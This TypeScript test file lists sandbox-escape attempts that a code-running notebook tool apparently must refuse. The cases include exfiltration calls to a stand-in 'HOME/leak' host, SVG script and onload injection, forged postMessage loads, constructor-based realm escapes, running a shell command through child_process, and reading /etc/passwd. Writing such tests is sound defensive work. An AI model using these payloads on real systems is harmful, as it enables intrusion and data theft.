import type { Attack } from "./attack.ts";
import { missing, NO_CODE_FROM_TEXT, NO_DYNAMIC_IMPORT, NO_IMPORT } from "./words.ts";

/** Gives "inside" if the function that `make` makes of text does not see its surroundings. */
const REACH = `const reach = (make) => { try { return typeof make("return typeof process === 'object' ? process : document")(); } catch (e) { return "refused"; } };
`;

/** A drawing that goes past our own elements, handed to the page by hand: the reader on the other side shows nothing of it. */
const drawn = (id: string, wants: string, inside: string): Attack => ({
  id,
  wants,
  code: `const svg = ${JSON.stringify(`<svg width="1" height="1">${inside}</svg>`)};
$gradus.emit({ type: "drawing", from: "show", svg, width: 1, height: 1, description: "leak" });
console.log("sent");`,
  told: /^sent$/,
});

/** Ways out of the place that runs TypeScript: to the network, the page, storage, the machine. */
export const TYPESCRIPT_OUTSIDE: readonly Attack[] = [
  { id: "fetch", wants: "ask an address", code: `await fetch("HOME/leak")`, told: missing("fetch") },
  {
    id: "xml-http-request",
    wants: "ask an address in the old way",
    code: `const r = new XMLHttpRequest(); r.open("GET", "HOME/leak", false); r.send();`,
    told: missing("XMLHttpRequest"),
  },
  {
    id: "web-socket",
    wants: "open a line to an address",
    code: `new WebSocket("HOME/leak".replace("http", "ws"))`,
    told: missing("WebSocket"),
  },
  {
    id: "web-socket-stream",
    wants: "open a line to an address by its newer name",
    code: `try {
  await new WebSocketStream("HOME/leak".replace("http", "ws")).opened;
  console.log("open");
} catch { console.log("refused"); }`,
    told: /^refused$/,
  },
  {
    id: "event-source",
    wants: "listen to an address",
    code: `new EventSource("HOME/leak")`,
    told: missing("EventSource"),
  },
  {
    id: "web-transport",
    wants: "open a line to an address over HTTP/3",
    code: `new WebTransport("HOME/leak")`,
    told: missing("WebTransport"),
  },
  {
    id: "peer-connection",
    wants: "find an address by asking for a peer",
    code: `new RTCPeerConnection({ iceServers: [{ urls: "stun:HOME".replace("http://", "") }] }).createDataChannel("leak")`,
    told: missing("RTCPeerConnection"),
  },
  {
    id: "beacon",
    wants: "leave a message with an address",
    code: `navigator.sendBeacon("HOME/leak", "secret")`,
    told: missing("navigator"),
  },
  {
    id: "import-scripts",
    wants: "run a script from an address",
    code: `importScripts("HOME/leak.js")`,
    told: missing("importScripts"),
  },
  {
    id: "import-address",
    wants: "import a module from an address",
    code: `import leak from "HOME/leak.js";
leak`,
    told: NO_IMPORT,
  },
  {
    id: "export-address",
    wants: "pass on a module from an address",
    code: `export * from "HOME/leak.js";`,
    told: NO_IMPORT,
  },
  {
    id: "import-later",
    wants: "import an address while running",
    code: `await import("HOME/leak.js")`,
    told: NO_DYNAMIC_IMPORT,
  },
  {
    id: "import-blob",
    wants: "import code made while running",
    code: `const made = URL.createObjectURL(new Blob(["fetch('HOME/leak')"], { type: "text/javascript" }));
await import(made)`,
    told: NO_DYNAMIC_IMPORT,
  },
  {
    id: "import-data",
    wants: "import code from its own text",
    code: `await import("data:text/javascript,export default 1")`,
    told: NO_DYNAMIC_IMPORT,
  },
  {
    id: "font",
    wants: "load a font from an address",
    code: `try {
  await new FontFace("leak", "url(HOME/leak.woff2)").load();
  console.log("loaded");
} catch { console.log("refused"); }`,
    told: /^refused$/,
  },
  {
    id: "forged-request",
    wants: "make its surroundings import an address, by a message that looks like the page's",
    code: `const load = JSON.stringify({ type: "load", code: "import 'HOME/leak.js'; import('HOME/again.js');" });
const warm = JSON.stringify({ type: "warm", toolkit: ["HOME/leak.js", globalThis.$gradus ? "HOME/more.js" : ""] });
for (const data of [load, warm]) globalThis.dispatchEvent?.(new MessageEvent("message", { data }));
if (globalThis.MessageEvent) Object.defineProperty(MessageEvent.prototype, "data", { get: () => load });
await new Promise((resolve) => {
  const wait = (n) => (n === 0 ? resolve() : Promise.resolve().then(() => wait(n - 1)));
  wait(1000);
});
console.log("asked");`,
    told: /^asked$/,
  },
  { id: "top", wants: "change the page's title", code: `top.document.title = "taken"`, told: missing("top") },
  {
    id: "parent",
    wants: "reach the page through its frame",
    code: `parent.document.body.remove()`,
    told: missing("parent"),
  },
  {
    id: "opener",
    wants: "reach a page that opened it",
    code: `opener.location = "HOME/leak"`,
    told: missing("opener"),
  },
  {
    id: "document",
    wants: "write into a page",
    code: `document.write("<img src=HOME/leak>")`,
    told: missing("document"),
  },
  { id: "location", wants: "lead the page away", code: `location.href = "HOME/leak"`, told: missing("location") },
  { id: "cookies", wants: "read cookies", code: `await cookieStore.getAll()`, told: missing("cookieStore") },
  {
    id: "local-storage",
    wants: "read what the page keeps",
    code: `localStorage.clear()`,
    told: missing("localStorage"),
  },
  {
    id: "indexed-db",
    wants: "delete the record",
    code: `indexedDB.deleteDatabase("gradus")`,
    told: missing("indexedDB"),
  },
  { id: "caches", wants: "keep something in a cache", code: `await caches.open("leak")`, told: missing("caches") },
  {
    id: "broadcast",
    wants: "talk to other tabs",
    code: `new BroadcastChannel("gradus").postMessage("leak")`,
    told: missing("BroadcastChannel"),
  },
  {
    id: "shared-worker",
    wants: "live on in a shared worker",
    code: `new SharedWorker("data:,1")`,
    told: missing("SharedWorker"),
  },
  {
    id: "worker",
    wants: "start a worker of its own, which has what was taken from it",
    code: `const code = "fetch('HOME/leak')";
new Worker(globalThis.URL ? URL.createObjectURL(new Blob([code])) : "data:," + code)`,
    told: missing("Worker"),
  },
  {
    id: "post-message",
    wants: "speak to the frame itself",
    code: `postMessage('{"type":"loaded"}')`,
    told: missing("postMessage"),
  },
  {
    id: "scan-for-names",
    wants: "find what was taken away somewhere else",
    code: `const found = [];
for (let o = globalThis; o !== null; o = Object.getPrototypeOf(o))
  for (const name of Object.getOwnPropertyNames(o))
    if (/^(fetch|importScripts|postMessage|Worker|XMLHttpRequest|WebSocket|indexedDB|caches|navigator|location|process|require)$/.test(name))
      found.push(name);
console.log(found.length === 0 ? "nothing found" : found.join());`,
    told: /^nothing found$/,
  },
  {
    id: "eval",
    wants: "run text as code",
    code: `(0, eval)("1 + 1")`,
    told: NO_CODE_FROM_TEXT,
  },
  {
    id: "function-constructor",
    wants: "make a function of text",
    code: `new Function("return 1")()`,
    told: NO_CODE_FROM_TEXT,
  },
  {
    id: "async-constructor",
    wants: "make an asynchronous function of text, in which import is not looked for",
    code: `await (async () => 0).constructor("await import('HOME/leak.js')")()`,
    told: NO_CODE_FROM_TEXT,
  },
  {
    id: "web-assembly",
    wants: "run machine code",
    code: `try {
  new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
  console.log("compiled");
} catch { console.log("refused"); }`,
    told: /^refused$/,
  },
  { id: "process-exit", wants: "end the process", code: `process.exit(0)`, told: missing("process") },
  {
    id: "process-binding",
    wants: "reach what Node is made of",
    code: `process.binding("fs")`,
    told: missing("process"),
  },
  {
    id: "require",
    wants: "run a command",
    code: `require("node:child_process").execSync("id")`,
    told: missing("require"),
  },
  {
    id: "import-node",
    wants: "read a file",
    code: `import { readFileSync } from "node:fs";
readFileSync("/etc/passwd")`,
    told: NO_IMPORT,
  },
  {
    id: "constructors",
    wants: "reach its surroundings through the constructors of what it was given",
    code: `${REACH}const roots = [globalThis, console.log, $gradus, $gradus.emit, $gradus.cell, performance, performance.now, Promise.resolve()];
console.log([...new Set(roots.map((root) => reach(root.constructor.constructor)))].join());`,
    told: /^refused$/,
  },
  {
    id: "stack-frames",
    wants: "read its surroundings off a stack",
    code: `${REACH}let seen = "refused";
try { Error.prepareStackTrace = (error, frames) => { for (const f of frames) seen = reach((f.getThis?.() ?? f.getFunction?.() ?? f).constructor.constructor); return ""; }; } catch {}
new Error("x").stack;
const f = () => f();
try { f(); } catch (e) { e.stack; seen += reach(e.constructor.constructor); }
console.log(seen);`,
    told: /^(refused)+$/,
  },
  {
    id: "caller",
    wants: "reach the function that called it",
    code: `function look() { return arguments.callee.caller; }
look()`,
    told: /'caller', 'callee', and 'arguments' properties may not be accessed/,
  },
  drawn("drawing-script", "run a script in a drawing made by hand", "<script>fetch('HOME/leak')</script>"),
  drawn("drawing-page", "put a page into a drawing", `<foreignObject><img src='HOME/leak'></img></foreignObject>`),
  drawn("drawing-image", "load an image into a drawing", `<image href="HOME/leak.png"></image>`),
  drawn("drawing-style", "load a style sheet into a drawing", "<style>@import url(HOME/leak.css)</style>"),
  drawn("drawing-link", "lead away with a drawing", `<a href="HOME/leak"><text>here</text></a>`),
  drawn("drawing-event", "hear events in a drawing", `<rect onload="fetch('HOME/leak')"></rect>`),
  drawn("drawing-escape", "end the drawing early", "</svg><script>fetch('HOME/leak')</script><svg>"),
  {
    id: "drawing-by-name",
    wants: "pass for a drawing",
    code: `({ [Symbol.for("gradus.drawing")]: () => ({
  svg: "<svg width='1' onload='fetch(\\"HOME/leak\\")'></svg>", width: 1, height: 1, description: "harmless",
}) })`,
    told: /^This drawing can't be shown: /,
  },
  {
    id: "plot-address",
    wants: "have Plot load an image",
    code: `import * as Plot from "@observablehq/plot";
Plot.image([1], { x: [1], src: ["HOME/leak.png"] }).plot()`,
    told: /^This drawing can't be shown: it asks for something at an address/,
  },
];
